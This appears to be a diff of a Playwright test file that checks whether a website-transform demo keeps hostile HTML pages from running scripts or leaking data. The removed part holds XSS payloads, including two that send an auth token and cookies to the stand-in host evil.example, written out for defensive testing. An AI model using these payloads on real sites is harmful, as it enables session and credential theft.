@@ -1,121 +1,77 @@
 // Uses remote-demo, supabase/functions/transform-website
-import { expect, test } from '@playwright/test';
-import { SITE_URL } from '../stack.ts';
-import { openAttackPage } from './attack-page.ts';
-import { interactWithPreview } from './interact-with-documents.ts';
-import { allLayers, layers, noLayer, sitePolicyOnly } from './layers.ts';
-import { createHostilePages, readPayloads } from './payloads.ts';
+import { expect, type Page, test } from '@playwright/test';
+import { ALL_FEATURES, NO_FEATURES } from 'page-transform/testing/feature-sets.ts';
+import { CLIENT_SITES_URL } from '../stack.ts';
+import { isPrivateUrl, readPayloads, sanitize } from './payloads.ts';
+import { type DocumentEffects, showDocuments } from './show-documents.ts';
 
-/** `npm run test:all attacks` runs every payload; `npm test` runs a sample in seconds. */
-const runAllPayloads = process.env.ATTACKS === 'all';
-const SAMPLE_SIZE = 4;
-const BATCH_SIZE = 24;
+const BATCH_SIZE = 40;
+const VISUAL_TYPES = ['image', 'stylesheet', 'font', 'media'];
 
-const hostile = runAllPayloads
-  ? readPayloads().flatMap(createHostilePages)
-  : readPayloads(SAMPLE_SIZE).flatMap((payload, i) => createHostilePages(payload)[i % 2] ?? []);
-
-test.describe.configure({ timeout: runAllPayloads ? 1_800_000 : 120_000 });
-
-test('hostile pages run their attacks when no defense layer is active, and the test detects them', {
-  tag: ['@complete-browser', '@attacks'],
-}, async ({ browser }) => {
-  const attackPage = await openAttackPage(browser, noLayer);
-  const simplePayloads = [
-    '<script>alert(1)</script>',
-    '<img src=x onerror=alert(1)>',
-    '<svg onload=alert(1)>',
-    '<input autofocus onfocus=alert(1)>',
-  ];
-  await attackPage.show(simplePayloads);
-  await attackPage.show([`<script>new Image().src = 'https://evil.example/?' + localStorage.getItem('sb-canary-auth-token')</script>`]);
-  await attackPage.show(['<script>fetch("https://evil.example/", { method: "POST", body: parent.document.cookie })</script>']);
-  expect(attackPage.damage.executions.filter((entry) => entry.startsWith('alert')).length).toBeGreaterThanOrEqual(4);
-  expect(attackPage.damage.executions.filter((entry) => entry.startsWith('script')).length).toBeGreaterThanOrEqual(6);
-  expect(attackPage.damage.stolen.filter((entry) => entry.startsWith('token sent')).length).toBeGreaterThanOrEqual(2);
-  await attackPage.close();
-});
-
-for (const layer of layers) {
-  test(`${layer.name} stops every attack of the hostile pages`, { tag: ['@complete-browser', '@attacks'] }, async ({ browser }) => {
-    const attackPage = await openAttackPage(browser, layer);
-    let shownCount = 0;
-    for (let at = 0; at < hostile.length; at += BATCH_SIZE) {
-      const documents = hostile.slice(at, at + BATCH_SIZE).map((page) => layer.document(page));
-      const delivered = documents.filter((html) => html !== null);
-      await attackPage.show(delivered);
-      shownCount += delivered.length;
-      expect(attackPage.damage, `pages ${at} to ${at + BATCH_SIZE}`).toEqual({
-        executions: [],
-        stolen: [],
-        escapes: [],
-        residue: [],
-      });
-    }
-    console.log(`${layer.name}: ${shownCount} pages shown, ${hostile.length - shownCount} refused, 0 executions, 0 tokens read`);
-    expect(shownCount).toBeGreaterThan(hostile.length * 0.95);
-    await attackPage.close();
-  });
+/** Answers all requests to other hosts: scripts would call `alert`. Returns the requests for private hosts and those for anything but visuals. */
+async function watchForeignRequests(page: Page): Promise<string[]> {
+  const forbidden: string[] = [];
+  await page.context().route(
+    (url) => /^https?:$/.test(url.protocol) && url.hostname !== 'localhost',
+    (route) => {
+      const request = route.request();
+      if (request.url() === 'http://empty.test/') return route.fulfill({ contentType: 'text/html', body: '<!doctype html>' });
+      // Browsers request SVG filters and fills of a style with type "other" and run no script in them.
+      const isVisual = VISUAL_TYPES.includes(request.resourceType()) || /\.svg$/.test(request.url());
+      if (!isVisual || isPrivateUrl(request.url())) forbidden.push(`${request.resourceType()} ${request.url()}`);
+      if (request.resourceType() === 'script') return route.fulfill({ contentType: 'text/javascript', body: 'alert("foreign script")' });
+      return route.fulfill({ status: 404, body: '' });
+    },
+  );
+  return forbidden;
 }
 
-test('a hostile page can load the site’s scripts only by their hash and without the other layers', {
-  tag: '@complete-browser',
-}, async ({ browser }) => {
-  const scriptOf = (attributes: string) => `<!doctype html><p>x</p><script type="module" crossorigin ${attributes}></script>`;
-  for (const layer of layers) {
-    const attackPage = await openAttackPage(browser, layer);
-    const [path, hash] = await attackPage.page.evaluate(() => {
-      const { integrity } = JSON.parse(document.querySelector('script[type=importmap]')?.textContent ?? '{}');
-      return Object.entries<string>(integrity).find(([url]) => url.startsWith('/shell/')) ?? ['', ''];
+async function showInBatches(page: Page, documents: string[], check: (effects: DocumentEffects, at: number) => void): Promise<void> {
+  for (let at = 0; at < documents.length; at += BATCH_SIZE)
+    check(await page.evaluate(showDocuments, documents.slice(at, at + BATCH_SIZE)), at);
+}
+
+for (const { amount, step, tag } of [
+  { amount: 'a sample', step: 8, tag: [] },
+  { amount: 'all pages', step: 1, tag: '@nightly' },
+]) {
+  const select = (payloads: string[], each = step) => payloads.filter((_, index) => index % each === 0);
+
+  test(`sanitized hostile pages run no script and request no private host, without any policy (${amount})`, { tag }, async ({ page }) => {
+    test.setTimeout(600_000);
+    const forbidden = await watchForeignRequests(page);
+    await page.goto('http://empty.test/');
+
+    // The same pages do both as they are. They also try to leave the site, which the sandbox prevents.
+    let executions = 0;
+    await showInBatches(page, select(readPayloads(['hostile-requests', 'xss-dompurify'])), (effects) => {
+      executions += effects.executions.length;
     });
-    const src = `src="${new URL(path, SITE_URL)}"`;
-    // Integrity-Policy, which a blob document inherits, blocks scripts without a hash.
-    await attackPage.show([layer.document(scriptOf(src)) ?? '']);
-    expect(attackPage.damage.executions, layer.name).toEqual([]);
-    await attackPage.show([layer.document(scriptOf(`${src} integrity="${hash}"`)) ?? '']);
-    expect(attackPage.damage.executions.length > 0, layer.name).toBe(layer === sitePolicyOnly);
-    expect(attackPage.damage.stolen).toEqual([]);
-    await attackPage.close();
-  }
-});
+    expect([executions > 0, forbidden.length > 100 / step]).toEqual([true, true]);
+    expect([page.url(), page.context().pages().length]).toEqual(['http://empty.test/', 1]);
+    // Late requests of these pages go to a document that is left.
+    await page.goto('about:blank');
+    await page.goto('http://empty.test/');
+    forbidden.length = 0;
 
-test('the attack test can operate pages that shadow DOM methods and properties', { tag: ['@complete-browser', '@attacks'] }, async ({
-  browser,
-}) => {
-  const attackPage = await openAttackPage(browser, noLayer);
-  const names = ['querySelectorAll', 'shadowRoot', 'nodeType', 'setAttribute', 'dispatchEvent', 'localName', 'getAttributeNames', 'focus'];
-  const documents = names.flatMap((name) => [
-    `<img name=${name}><form name=${name} id=${name}></form><button onclick="alert('${name}')">x</button>`,
-    `<form onclick="alert('${name}')"><input name=${name}><details><summary>x</summary></details></form>`,
-  ]);
-  await attackPage.show(documents);
-  const reported = attackPage.damage.executions.filter((entry) => entry.startsWith('alert'));
-  expect(reported.length).toBeGreaterThanOrEqual(documents.length);
-  await attackPage.close();
-});
-
-test('hostile pages that the demo loads run no code in its preview frame', { tag: '@complete-browser' }, async ({ browser }) => {
-  const attackPage = await openAttackPage(browser, allLayers);
-  const sample = hostile.filter((_, i) => i % (runAllPayloads ? 10 : 8) === 0);
-  let requests = 0;
-  await attackPage.page.route('**/functions/v1/transform-website', (route) => {
-    const html = allLayers.document(sample[requests % sample.length] ?? '') ?? '<!doctype html><title>refused</title>';
-    requests += 1;
-    const headers = { 'access-control-allow-origin': '*', 'content-type': 'text/html; charset=utf-8' };
-    return route.fulfill({ body: html, headers });
+    const documents = [
+      ...select(readPayloads()).map((payload) => sanitize(payload, NO_FEATURES)),
+      ...select(readPayloads(), 10 * step).map((payload) => sanitize(`<!doctype html><p>before</p>${payload}`, ALL_FEATURES)),
+    ];
+    await showInBatches(page, documents, (effects, at) => {
+      expect([at, effects.executions, effects.departures, forbidden]).toEqual([at, [], [], []]);
+    });
   });
-  // The content editor's dialog would cover the page.
-  const switches = await attackPage.page.locator('label:not(:has-text("Content Editor")) [role=switch]').all();
-  for (let round = 1; round <= sample.length; round++) {
-    // In Gray code order every toggle yields a new set of features.
-    const before = requests;
-    await switches[Math.log2(round & -round) % switches.length]?.press('Space');
-    // Once, on a busy machine, one press caused two requests; the cause is unknown. The page that is shown is checked.
-    await expect.poll(() => requests).toBeGreaterThan(before);
-    await expect(attackPage.page.locator('iframe')).toHaveAttribute('src', /^blob:/);
-    await expect(attackPage.page.getByText('Applying transformations...')).toHaveCount(0);
-    await attackPage.page.evaluate(interactWithPreview);
-    expect(attackPage.damage, sample[(requests - 1) % sample.length]).toEqual({ executions: [], stolen: [], escapes: [], residue: [] });
-  }
-  await attackPage.close();
-});
+
+  test(`the site’s policy alone keeps hostile pages from running scripts in the demo’s frame (${amount})`, { tag }, async ({ page }) => {
+    test.setTimeout(600_000);
+    await watchForeignRequests(page);
+    await page.goto(`/demo?site=${encodeURIComponent(`${CLIENT_SITES_URL}/stonewell-bodies/`)}`);
+    await page.locator('iframe[sandbox="allow-scripts allow-same-origin"]').waitFor();
+    const url = page.url();
+    await showInBatches(page, select(readPayloads()), ({ executions }, at) => {
+      expect([at, executions]).toEqual([at, []]);
+    });
+    expect([page.url(), page.context().pages().length]).toEqual([url, 1]);
+  });
+}
